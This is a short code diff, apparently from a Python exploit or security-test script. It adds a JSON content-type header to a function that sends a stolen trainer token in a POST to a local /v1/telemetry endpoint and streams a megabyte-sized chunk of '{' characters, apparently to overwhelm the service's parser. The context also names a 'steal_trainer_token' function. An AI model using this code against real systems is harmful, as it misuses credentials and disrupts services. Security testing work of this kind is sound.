@@ -70,7 +70,7 @@ def steal_trainer_token(workdir) -> tuple[str, list[int]]:
 def big_chunked_body(port: int, token: str) -> int:
     s = socket.create_connection(("127.0.0.1", port), timeout=5)
     s.sendall(f"POST /v1/telemetry HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
-              "Transfer-Encoding: chunked\r\n\r\n".encode())
+              "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
     chunk, sent = b"100000\r\n" + b"{" * 2**20 + b"\r\n", 0
     try:
         import select
